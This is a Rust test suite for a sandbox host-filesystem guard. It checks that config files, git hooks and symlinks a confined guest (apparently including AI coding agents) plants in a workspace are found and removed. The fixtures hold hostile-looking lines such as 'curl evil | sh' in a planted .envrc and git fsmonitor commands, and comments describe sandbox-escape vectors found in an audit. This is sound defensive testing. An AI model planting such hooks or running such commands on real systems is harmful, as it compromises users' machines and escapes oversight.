//! G1 (inspection) and G2 (the sweep), each judged by looking at the directory afterwards.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use stockade_hostfs::{Guarded, HostFsError};

fn dir(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("stockade-hostfs-{tag}-{}", std::process::id()));
    let _ = fs::remove_dir_all(&d);
    fs::create_dir_all(&d).unwrap();
    d
}

fn repo(tag: &str) -> PathBuf {
    let d = dir(tag);
    for sub in [".git/hooks", ".git/objects", ".git/refs", ".vscode"] {
        fs::create_dir_all(d.join(sub)).unwrap();
    }
    fs::write(d.join(".git/config"), "[core]\n").unwrap();
    fs::write(d.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(d.join(".bashrc"), "# rc\n").unwrap();
    d
}

#[test]
fn g1_present_absent_and_pinned_are_reported() {
    let d = repo("report");
    let g = Guarded::inspect(&d).unwrap();
    for p in [".git/hooks", ".git/config", ".bashrc", ".vscode"] {
        assert!(g.present().iter().any(|x| x == p), "{p} not present: {:?}", g.present());
    }
    // History is not protected; what configures or runs is.
    for p in [".git/objects", ".git/refs", ".git/HEAD", ".git"] {
        assert!(!g.present().iter().any(|x| x == p), "{p} is protected: {:?}", g.present());
    }
    assert_eq!(g.pinned(), [".git"]);
    for p in [".envrc", ".git/info", ".claude", ".codex", ".ssh", ".gitconfig", ".npmrc"] {
        assert!(g.absent().contains(&p), "{p} not absent: {:?}", g.absent());
    }
    assert!(g.describe().starts_with("read-only inside the workspace: "), "{}", g.describe());
    fs::remove_dir_all(&d).unwrap();
}

#[test]
fn g1_a_symlink_on_the_way_refuses_and_a_gitfile_is_protected() {
    let d = dir("links");
    symlink("/etc", d.join(".claude")).unwrap();
    let e = Guarded::inspect(&d).unwrap_err();
    assert!(matches!(&e, HostFsError::Symlink { rel, .. } if rel == ".claude"), "{e}");
    assert!(e.to_string().contains(".claude in the read-write workspace"), "{e}");
    fs::remove_file(d.join(".claude")).unwrap();
    // `.git` a symlink: the whole git subtree would be elsewhere.
    fs::create_dir(d.join("elsewhere")).unwrap();
    symlink(d.join("elsewhere"), d.join(".git")).unwrap();
    assert!(matches!(Guarded::inspect(&d), Err(HostFsError::Symlink { rel, .. }) if rel == ".git"));
    fs::remove_file(d.join(".git")).unwrap();
    // A gitfile (a worktree or submodule checkout) is itself kept read-only.
    fs::write(d.join(".git"), "gitdir: /somewhere/else\n").unwrap();
    let g = Guarded::inspect(&d).unwrap();
    assert!(g.present().iter().any(|x| x == ".git"), "{:?}", g.present());
    assert!(g.pinned().is_empty());
    fs::remove_dir_all(&d).unwrap();
}

/// Everything under `d`, as sorted relative paths.
fn tree(d: &Path) -> Vec<String> {
    fn walk(base: &Path, d: &Path, out: &mut Vec<String>) {
        for e in fs::read_dir(d).unwrap().flatten() {
            let p = e.path();
            out.push(p.strip_prefix(base).unwrap().display().to_string());
            if fs::symlink_metadata(&p).unwrap().is_dir() {
                walk(base, &p, out);
            }
        }
    }
    let mut out = Vec::new();
    walk(d, d, &mut out);
    out.sort();
    out
}

/// What a sweep removed, after checking it met no error.
fn swept(g: &Guarded) -> Vec<String> {
    let s = g.sweep();
    assert!(s.errors.is_empty(), "{:?}", s.errors);
    s.removed
}

#[test]
fn g2_what_the_guest_planted_is_removed_and_nothing_else() {
    let d = repo("sweep");
    fs::write(d.join("notes.txt"), "mine\n").unwrap();
    let g = Guarded::inspect(&d).unwrap();
    let before = tree(&d);
    // The "guest": plants absent protected paths, and ordinary work beside them.
    fs::write(d.join(".envrc"), "curl evil | sh\n").unwrap();
    fs::create_dir_all(d.join(".codex")).unwrap();
    fs::write(d.join(".codex/config.toml"), "evil = true\n").unwrap();
    fs::create_dir_all(d.join(".git/info")).unwrap();
    fs::write(d.join(".git/info/attributes"), "* filter=evil\n").unwrap();
    fs::write(d.join(".git/objects/ab"), "object\n").unwrap();
    fs::write(d.join("output.txt"), "result\n").unwrap();
    // A symlink planted as a protected name is removed, not followed.
    let outside = dir("sweep-outside");
    fs::create_dir_all(outside.join("keep")).unwrap();
    symlink(&outside, d.join(".claude")).unwrap();
    let removed = swept(&g);
    assert_eq!(removed, [".claude", ".codex", ".envrc", ".git/info"], "{removed:?}");
    let mut expected = before;
    expected.extend([".git/objects/ab".into(), "output.txt".into()]);
    expected.sort();
    assert_eq!(tree(&d), expected);
    assert!(outside.join("keep").is_dir(), "the sweep followed a symlink");
    // Present paths are never removed, even when changed (the tier keeps them read-only).
    assert_eq!(fs::read_to_string(d.join(".bashrc")).unwrap(), "# rc\n");
    assert!(swept(&g).is_empty(), "a second sweep found more");
    fs::remove_dir_all(&d).unwrap();
    fs::remove_dir_all(&outside).unwrap();
}

#[test]
fn g2_a_live_sessions_sweep_removes_what_was_planted_and_keeps_the_record() {
    let d = repo("sweep-live");
    let state = dir("sweep-live-records");
    let opened = stockade_hostfs::open_workspace(&d).unwrap();
    let mut g = Guarded::inspect_dir(opened.path(), opened.dir().try_clone().unwrap()).unwrap();
    g.record_in(&state).unwrap();
    let g = std::sync::Arc::new(g);
    fs::write(d.join(".envrc"), "curl evil | sh\n").unwrap();
    fs::write(d.join("work.txt"), "kept\n").unwrap();
    // Two at once, as a session's heartbeat and an exec's end may: they take turns.
    let twins: Vec<_> = (0..2)
        .map(|_| {
            let g = std::sync::Arc::clone(&g);
            std::thread::spawn(move || g.sweep_planted())
        })
        .collect();
    let mut removed: Vec<String> = twins.into_iter().flat_map(|t| t.join().unwrap().removed).collect();
    removed.sort();
    assert_eq!(removed, [".envrc"], "exactly one of the two removed it");
    assert!(d.join("work.txt").exists() && !d.join(".envrc").exists());
    assert_eq!(records(&state).len(), 1, "the record stays while the session lives");
    // Planted again later, swept again; the final sweep takes the record too.
    fs::write(d.join(".envrc"), "again\n").unwrap();
    assert_eq!(g.sweep_planted().removed, [".envrc"]);
    assert!(g.sweep().removed.is_empty());
    assert!(records(&state).is_empty(), "the final sweep removes the record");
    drop(opened);
    fs::remove_dir_all(&d).unwrap();
    fs::remove_dir_all(&state).unwrap();
}

#[test]
fn g2_a_planted_git_redirect_is_removed() {
    // No `.git` at inspection: a guest's `git init` is fine, but what runs or configures
    // goes, and a `.git` symlink or gitfile pointing at planted hooks goes too.
    let d = dir("redirect");
    let g = Guarded::inspect(&d).unwrap();
    for sub in [".git/hooks", ".git/objects"] {
        fs::create_dir_all(d.join(sub)).unwrap();
    }
    fs::write(d.join(".git/hooks/post-checkout"), "evil\n").unwrap();
    fs::write(d.join(".git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
    fs::write(d.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let removed = swept(&g);
    assert!(removed.contains(&".git/hooks".to_owned()) && removed.contains(&".git/config".to_owned()), "{removed:?}");
    assert_eq!(tree(&d), [".git", ".git/HEAD", ".git/objects"]);
    fs::remove_dir_all(d.join(".git")).unwrap();
    fs::create_dir_all(d.join("evil/hooks")).unwrap();
    symlink("evil", d.join(".git")).unwrap();
    assert_eq!(swept(&g), [".git"]);
    assert!(d.join("evil/hooks").is_dir());
    fs::write(d.join(".git"), "gitdir: evil\n").unwrap();
    assert_eq!(swept(&g), [".git"]);
    assert!(!d.join(".git").exists());
    fs::remove_dir_all(&d).unwrap();
}

#[test]
fn g3_every_socket_is_found_and_the_walk_is_bounded() {
    let d = dir("sockets");
    fs::create_dir_all(d.join("a/b/c")).unwrap();
    let _top = std::os::unix::net::UnixListener::bind(d.join("daemon.sock")).unwrap();
    let _deep = std::os::unix::net::UnixListener::bind(d.join("a/b/c/deep.sock")).unwrap();
    fs::write(d.join("a/file"), "x").unwrap();
    // A symlink to a directory with a socket is not followed.
    let other = dir("sockets-other");
    let _outside = std::os::unix::net::UnixListener::bind(other.join("outside.sock")).unwrap();
    symlink(&other, d.join("a/link")).unwrap();
    assert_eq!(stockade_hostfs::specials(&d, 100).unwrap(), [Path::new("a/b/c/deep.sock"), Path::new("daemon.sock")]);
    let e = stockade_hostfs::specials(&d, 3).unwrap_err();
    assert!(e.to_string().contains("more than 3 entries to check for unix sockets"), "{e}");
    fs::remove_dir_all(&d).unwrap();
    fs::remove_dir_all(&other).unwrap();
}

#[test]
fn g4_a_workspace_is_resolved_then_judged() {
    let d = dir("resolve");
    fs::create_dir(d.join("real")).unwrap();
    symlink(d.join("real"), d.join("link")).unwrap();
    symlink("/etc", d.join("etc")).unwrap();
    fs::write(d.join("file"), "x").unwrap();
    assert_eq!(stockade_hostfs::resolve_workspace(&d.join("real")).unwrap(), fs::canonicalize(d.join("real")).unwrap());
    // A path through a symlink is refused, naming where it leads: another run's guest could
    // swap a directory on it as this run starts (the two-run race in the escape matrix).
    let e = stockade_hostfs::resolve_workspace(&d.join("link")).unwrap_err();
    assert!(e.to_string().contains(&format!("link leads through a symlink to {}", d.join("real").display())), "{e}");
    let e = stockade_hostfs::resolve_workspace(&d.join("etc")).unwrap_err();
    assert!(e.to_string().starts_with("workspace /etc cannot be granted: it is a system directory"), "{e}");
    let e = stockade_hostfs::resolve_workspace(&d.join("file")).unwrap_err();
    assert!(e.to_string().ends_with("/file is not a directory"), "{e}");
    let e = stockade_hostfs::resolve_workspace(&d.join("absent")).unwrap_err();
    assert!(e.to_string().contains("absent: No such file or directory"), "{e}");
    fs::remove_dir_all(&d).unwrap();
}

/// hold-the-line, finding 6: a read-write run in a git worktree or submodule deleted the
/// user's `.git` gitfile, even `-- true`.
#[test]
fn g2_a_users_gitfile_is_never_removed() {
    let d = dir("gitfile");
    fs::write(d.join(".git"), "gitdir: /repo/.git/worktrees/wt\n").unwrap();
    let g = Guarded::inspect(&d).unwrap();
    assert!(swept(&g).is_empty());
    assert_eq!(fs::read_to_string(d.join(".git")).unwrap(), "gitdir: /repo/.git/worktrees/wt\n");
    fs::remove_dir_all(&d).unwrap();
}

/// hold-the-line, finding 2: `.git/commondir` points git at another directory's `config`
/// and `hooks`; it and every other new top-level name git does not write go, whatever its
/// name, and what git writes (and what was there) stays.
#[test]
fn g2_new_git_entries_git_does_not_write_are_removed() {
    let d = repo("commondir");
    fs::write(d.join(".git/description"), "mine\n").unwrap();
    fs::write(d.join(".git/custom-before"), "the user's\n").unwrap();
    let g = Guarded::inspect(&d).unwrap();
    fs::write(d.join(".git/commondir"), "x\n").unwrap();
    fs::create_dir_all(d.join(".git/x")).unwrap();
    fs::write(d.join(".git/x/config"), "[core]\n\tfsmonitor = touch /tmp/canary\n").unwrap();
    fs::write(d.join(".git/index"), "idx").unwrap();
    fs::write(d.join(".git/index.lock"), "idx").unwrap();
    fs::write(d.join(".git/ORIG_HEAD"), "abc\n").unwrap();
    fs::create_dir_all(d.join(".git/refs/heads")).unwrap();
    fs::write(d.join(".git/refs/heads/main"), "abc\n").unwrap();
    assert_eq!(swept(&g), [".git/commondir", ".git/x"]);
    for keep in ["index", "index.lock", "ORIG_HEAD", "refs/heads/main", "description", "custom-before", "HEAD"] {
        assert!(d.join(".git").join(keep).exists(), ".git/{keep} was removed");
    }
    fs::remove_dir_all(&d).unwrap();
}

/// hold-the-line, finding 5: the sweep stopped at its first error, and the guest chose the
/// error (a tree deeper than the descriptor limit, or a directory it took the rights of),
/// so every later protected path stayed.
#[test]
fn g2_a_deep_tree_and_a_locked_directory_do_not_stop_the_sweep() {
    use cap_std::fs::Dir;
    let d = dir("deep");
    let g = Guarded::inspect(&d).unwrap();
    // A tree deeper than this process's soft descriptor limit (so a walk holding one per
    // level fails with EMFILE) and PATH_MAX, made one level at a time.
    let limits = fs::read_to_string("/proc/self/limits").unwrap();
    let soft: usize = limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .and_then(|l| l.split_whitespace().nth(3))
        .and_then(|n| n.parse().ok())
        .unwrap_or(1024);
    let depth = (soft + 64).min(100_000);
    fs::create_dir(d.join(".claude")).unwrap();
    let mut cur = Dir::open_ambient_dir(d.join(".claude"), cap_std::ambient_authority()).unwrap();
    for _ in 0..depth {
        cur.create_dir("d").unwrap();
        cur.write("f", "x").unwrap();
        cur = cur.open_dir("d").unwrap();
    }
    drop(cur);
    // A directory whose owner took its own rights away, with a hook inside.
    fs::create_dir_all(d.join(".codex/locked")).unwrap();
    fs::write(d.join(".codex/locked/hook"), "evil").unwrap();
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(d.join(".codex/locked"), fs::Permissions::from_mode(0o500)).unwrap();
    fs::set_permissions(d.join(".codex"), fs::Permissions::from_mode(0o000)).unwrap();
    // And the protected paths after them in the list.
    fs::write(d.join(".envrc"), "evil").unwrap();
    fs::write(d.join(".mcp.json"), "{}").unwrap();
    fs::create_dir_all(d.join(".kube")).unwrap();
    let fds_before = fs::read_dir("/proc/self/fd").unwrap().count();
    assert_eq!(swept(&g), [".claude", ".codex", ".envrc", ".kube", ".mcp.json"]);
    assert!(fs::read_dir("/proc/self/fd").unwrap().count() <= fds_before + 2, "descriptors left open");
    assert_eq!(tree(&d), Vec::<String>::new());
    fs::remove_dir_all(&d).unwrap();
}

/// hold-the-line, findings 7 and 8: a socket under a name that is not UTF-8 was skipped, and
/// fifos were not covered at all.
#[test]
fn g3_fifos_and_names_that_are_not_utf8_are_found() {
    use std::os::unix::ffi::OsStrExt;
    let d = dir("specials");
    let odd = std::ffi::OsStr::from_bytes(b"odd-\xff.sock");
    let _sock = std::os::unix::net::UnixListener::bind(d.join(odd)).unwrap();
    let status = std::process::Command::new("mkfifo").arg(d.join("pipe")).status().unwrap();
    assert!(status.success());
    assert_eq!(stockade_hostfs::specials(&d, 100).unwrap(), [Path::new(odd), Path::new("pipe")]);
    fs::remove_dir_all(&d).unwrap();
}

/// hold-the-line, finding 1: a directory on the resolved path swapped for a symlink between
/// the resolution and the open is refused, not followed, and the opened directory's identity
/// is the one a tier compares with what it mounts.
#[test]
fn g4_the_opened_directory_is_the_judged_one() {
    use std::os::unix::fs::MetadataExt;
    let d = dir("open");
    fs::create_dir(d.join("sub")).unwrap();
    let w = stockade_hostfs::open_workspace(&d.join("sub")).unwrap();
    let m = fs::metadata(d.join("sub")).unwrap();
    assert_eq!(w.id(), (m.dev(), m.ino()));
    assert_eq!(w.path(), fs::canonicalize(d.join("sub")).unwrap());
    // The swap the audit raced, done deterministically: after `canonicalize` but before the
    // open, `sub` becomes a symlink to /etc. A walk by name from `/` meets the symlink.
    fs::rename(d.join("sub"), d.join("sub-real")).unwrap();
    symlink("/etc", d.join("sub")).unwrap();
    // `open_workspace` resolves again, so it judges /etc (and refuses it) rather than the
    // old name; what matters is that it never hands back /etc's identity under the old path.
    let e = stockade_hostfs::open_workspace(&d.join("sub")).unwrap_err();
    assert!(e.to_string().contains("/etc cannot be granted"), "{e}");
    fs::remove_dir_all(&d).unwrap();
}

/// A real repository, with one commit on `main`, made by the host's git.
fn git_repo(tag: &str) -> PathBuf {
    let d = dir(tag);
    git(&d, &["init", "-q", "-b", "main"]);
    fs::write(d.join("a.txt"), "a\n").unwrap();
    git(&d, &["add", "a.txt"]);
    git(&d, &["commit", "-q", "-m", "first"]);
    d
}

fn git(d: &Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(d)
        .args(["-c", "user.name=t", "-c", "user.email=t@t", "-c", "commit.gpgsign=false"])
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// hold-the-line, finding 9: a guest commits the protected file it planted; the sweep
/// removes the file, and the user's `git checkout -- .` would restore it. What moved is
/// reported, with the values the host's git shows.
#[test]
fn g6_a_commit_made_during_the_run_is_reported_with_its_old_and_new_ids() {
    let d = git_repo("refs-commit");
    git(&d, &["branch", "gone"]);
    git(&d, &["pack-refs", "--all"]);
    let before = git(&d, &["rev-parse", "HEAD"]);
    let g = Guarded::inspect(&d).unwrap();
    // The guest's work: a planted .envrc committed, a branch made, a packed one deleted.
    fs::write(d.join(".envrc"), "touch /tmp/canary\n").unwrap();
    git(&d, &["add", "-f", ".envrc"]);
    git(&d, &["commit", "-q", "-m", "innocent"]);
    git(&d, &["branch", "new"]);
    git(&d, &["branch", "-D", "gone"]);
    let after = git(&d, &["rev-parse", "HEAD"]);
    let s = g.sweep();
    assert_eq!(s.removed, [".envrc"]);
    assert!(s.errors.is_empty(), "{:?}", s.errors);
    let (b, a) = (&before[..12], &after[..12]);
    assert_eq!(
        s.refs_moved,
        [
            format!("refs/heads/gone {b}..(none)"),
            format!("refs/heads/main {b}..{a}"),
            format!("refs/heads/new (none)..{a}")
        ]
    );
    // The file is in the commit: the user's checkout would bring it back.
    git(&d, &["checkout", "--", "."]);
    assert!(d.join(".envrc").exists());
    fs::remove_dir_all(&d).unwrap();
}

#[test]
fn g6_a_run_that_moves_no_ref_reports_nothing_and_a_moved_head_is_shown_escaped() {
    let d = git_repo("refs-none");
    let g = Guarded::inspect(&d).unwrap();
    fs::write(d.join("a.txt"), "changed, not committed\n").unwrap();
    assert!(g.sweep().refs_moved.is_empty());
    // A guest-written name and value: no control byte is shown as it is.
    fs::write(d.join(".git/refs/heads/\x1b]52;c;eA==\x07"), "\x1b[2J\n").unwrap();
    fs::write(d.join(".git/HEAD"), "ref: refs/heads/other\n").unwrap();
    let moved = g.sweep().refs_moved;
    assert_eq!(
        moved,
        ["HEAD ref: refs/heads/main..ref: refs/heads/other", "refs/heads/\\x1b]52;c;eA==\\x07 (none)..\\x1b[2J"]
    );
    fs::remove_dir_all(&d).unwrap();
}

#[test]
fn g6_refs_past_the_bound_are_compared_as_far_as_it_and_said_so() {
    let d = git_repo("refs-many");
    let heads = d.join(".git/refs/heads");
    let g = Guarded::inspect(&d).unwrap();
    let id = git(&d, &["rev-parse", "HEAD"]);
    for i in 0..=stockade_hostfs::MAX_REFS {
        fs::write(heads.join(format!("b{i}")), format!("{id}\n")).unwrap();
    }
    let moved = g.sweep().refs_moved;
    assert!(moved.len() < stockade_hostfs::MAX_REFS + 1, "{}", moved.len());
    assert!(moved.last().unwrap().contains("only what fits was compared"), "{:?}", moved.last());
    fs::remove_dir_all(&d).unwrap();
}

/// Polls a future that never waits on a waker (the lock's tries, and a pause that sleeps the
/// thread) to its end.
fn block_on<F: std::future::Future>(f: F) -> F::Output {
    let mut f = std::pin::pin!(f);
    let mut cx = std::task::Context::from_waker(std::task::Waker::noop());
    loop {
        if let std::task::Poll::Ready(v) = f.as_mut().poll(&mut cx) {
            return v;
        }
    }
}

/// Takes `path`'s lock for a run, refusing rather than waiting.
fn lock_now(path: &Path, writable: bool) -> Result<stockade_hostfs::WorkspaceLock, stockade_hostfs::WorkspaceError> {
    let w = stockade_hostfs::open_workspace(path).unwrap();
    block_on(w.lock(writable, stockade_protocol::Busy::Refuse, || async {}))
}

#[test]
fn g7_a_read_write_run_holds_its_workspace_and_the_tree_below_it_alone() {
    let d = dir("lock");
    for sub in ["w/sub/deeper", "sibling"] {
        fs::create_dir_all(d.join(sub)).unwrap();
    }
    let (w, sub, sibling) = (d.join("w"), d.join("w/sub"), d.join("sibling"));
    let held = lock_now(&w, true).unwrap();
    // The same workspace, read-write or read-only: refused, naming it.
    for writable in [true, false] {
        let e = lock_now(&w, writable).unwrap_err();
        assert!(matches!(e, stockade_hostfs::WorkspaceError::Busy { .. }), "{e}");
        assert!(e.to_string().contains(&*w.to_string_lossy()), "{e}");
    }
    // Below it (the audit's race: a run granted `W/sub` while a run of `W` swaps `sub`), at
    // any depth; and a read-write run above it. A read-only run above it shares: its path
    // is outside what the guest can change.
    for other in [&sub, &d.join("w/sub/deeper")] {
        for writable in [true, false] {
            assert!(
                lock_now(other, writable).is_err(),
                "{} beside a read-write run of {}",
                other.display(),
                w.display()
            );
        }
    }
    assert!(lock_now(&d, true).is_err());
    drop(lock_now(&d, false).unwrap());
    // A sibling is another tree.
    drop(lock_now(&sibling, true).unwrap());
    drop(held);
    // Released with the lock: read-only runs of one tree share it, and exclude a read-write
    // run of any part of it.
    let (a, b) = (lock_now(&w, false).unwrap(), lock_now(&sub, false).unwrap());
    let c = lock_now(&d, false).unwrap();
    assert!(lock_now(&w, true).is_err());
    assert!(lock_now(&sub, true).is_err());
    drop((a, b, c));
    drop(lock_now(&sub, true).unwrap());
    fs::remove_dir_all(&d).unwrap();
}

#[test]
fn g7_a_waiting_run_starts_once_the_holder_is_done() {
    let d = dir("lock-wait");
    fs::create_dir_all(d.join("w/sub")).unwrap();
    let held = lock_now(&d.join("w"), true).unwrap();
    let release = std::thread::spawn(move || {
        std::thread::sleep(std::time::Duration::from_millis(200));
        drop(held);
    });
    let t0 = std::time::Instant::now();
    let w = stockade_hostfs::open_workspace(&d.join("w/sub")).unwrap();
    let mut tries = 0;
    let got = block_on(w.lock(false, stockade_protocol::Busy::Wait, || {
        tries += 1;
        async { std::thread::sleep(std::time::Duration::from_millis(10)) }
    }));
    assert!(got.is_ok());
    assert!(t0.elapsed() >= std::time::Duration::from_millis(150), "{:?}", t0.elapsed());
    assert!(tries > 1, "it waited in steps, {tries}");
    release.join().unwrap();
    fs::remove_dir_all(&d).unwrap();
}

/// A read-write run's inspection, recorded in `state` as a supervisor records it before its
/// guest starts; the run then "dies" (the guard is dropped without a sweep).
fn recorded_run(ws: &Path, state: &Path) {
    let opened = stockade_hostfs::open_workspace(ws).unwrap();
    let mut g = Guarded::inspect_dir(opened.path(), opened.dir().try_clone().unwrap()).unwrap();
    g.record_in(state).unwrap();
}

fn records(state: &Path) -> Vec<PathBuf> {
    fs::read_dir(state).map(|d| d.map(|e| e.unwrap().path()).collect()).unwrap_or_default()
}

/// G8: a supervisor killed before its sweep (finding 4's SIGKILL) leaves its record; the
/// sweep is finished later, under the workspace's lock, and only what the run could have
/// made is removed.
#[test]
fn g8_a_killed_runs_sweep_is_finished_later_and_only_for_what_it_could_have_made() {
    let state = dir("records");
    let ws = repo("killed");
    recorded_run(&ws, &state);
    assert_eq!(records(&state).len(), 1);
    // What the guest planted before its supervisor died.
    fs::create_dir(ws.join(".claude")).unwrap();
    fs::write(ws.join(".claude/settings.json"), "{\"hooks\": {}}").unwrap();
    fs::write(ws.join(".envrc"), "curl evil | sh\n").unwrap();
    fs::write(ws.join(".git/commondir"), "x\n").unwrap();
    // Another run holds the workspace: the record waits for it.
    let held = lock_now(&ws, false).unwrap();
    assert!(stockade_hostfs::finish_killed_sweeps(&state).is_empty());
    assert!(ws.join(".envrc").exists() && records(&state).len() == 1);
    drop(held);
    let done = stockade_hostfs::finish_killed_sweeps(&state);
    let [stockade_hostfs::Finished::Swept { workspace, swept }] = done.as_slice() else { panic!("{done:?}") };
    assert_eq!(workspace, &fs::canonicalize(&ws).unwrap());
    assert_eq!(swept.removed, [".claude", ".envrc", ".git/commondir"], "{swept:?}");
    assert!(swept.errors.is_empty() && swept.left.is_empty(), "{swept:?}");
    assert!(!ws.join(".envrc").exists() && !ws.join(".claude").exists() && !ws.join(".git/commondir").exists());
    // What the user had stays.
    assert!(ws.join(".bashrc").exists() && ws.join(".git/config").exists() && ws.join(".git/HEAD").exists());
    assert!(records(&state).is_empty(), "the finished record stayed: {:?}", records(&state));
    assert!(done[0].to_string().contains("removed .claude .envrc .git/commondir"), "{}", done[0]);

    // A planted path that changed after the run could have written (its record was last
    // touched an hour ago) is the user's as far as anyone can tell: left, and listed.
    recorded_run(&ws, &state);
    let [record] = records(&state).try_into().unwrap();
    fs::write(ws.join(".envrc"), "export MINE=1\n").unwrap();
    let hour_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
    fs::File::options().write(true).open(&record).unwrap().set_modified(hour_ago).unwrap();
    let done = stockade_hostfs::finish_killed_sweeps(&state);
    let [stockade_hostfs::Finished::Swept { swept, .. }] = done.as_slice() else { panic!("{done:?}") };
    assert_eq!((swept.removed.len(), swept.left.as_slice()), (0, [".envrc".to_owned()].as_slice()), "{swept:?}");
    assert_eq!(fs::read_to_string(ws.join(".envrc")).unwrap(), "export MINE=1\n");
    assert!(done[0].to_string().contains("left .envrc"), "{}", done[0]);
    assert!(records(&state).is_empty());
    fs::remove_file(ws.join(".envrc")).unwrap();

    // A record whose directory was replaced touches nothing in the new one.
    recorded_run(&ws, &state);
    let moved = ws.with_extension("old");
    fs::rename(&ws, &moved).unwrap();
    fs::create_dir(&ws).unwrap();
    fs::write(ws.join(".envrc"), "new directory's own\n").unwrap();
    let done = stockade_hostfs::finish_killed_sweeps(&state);
    assert!(matches!(done.as_slice(), [stockade_hostfs::Finished::Stale { .. }]), "{done:?}");
    assert!(ws.join(".envrc").exists() && records(&state).is_empty());

    // An unreadable record is removed and said to be.
    fs::write(state.join("garbage.json"), "not json").unwrap();
    let done = stockade_hostfs::finish_killed_sweeps(&state);
    assert!(matches!(done.as_slice(), [stockade_hostfs::Finished::Unreadable { .. }]), "{done:?}");
    assert!(records(&state).is_empty());

    // A run that sweeps removes its own record.
    let opened = stockade_hostfs::open_workspace(&ws).unwrap();
    let mut g = Guarded::inspect_dir(opened.path(), opened.dir().try_clone().unwrap()).unwrap();
    g.record_in(&state).unwrap();
    assert_eq!(records(&state).len(), 1);
    let _ = g.sweep();
    assert!(records(&state).is_empty());
    for d in [&ws, &moved, &state] {
        let _ = fs::remove_dir_all(d);
    }
}
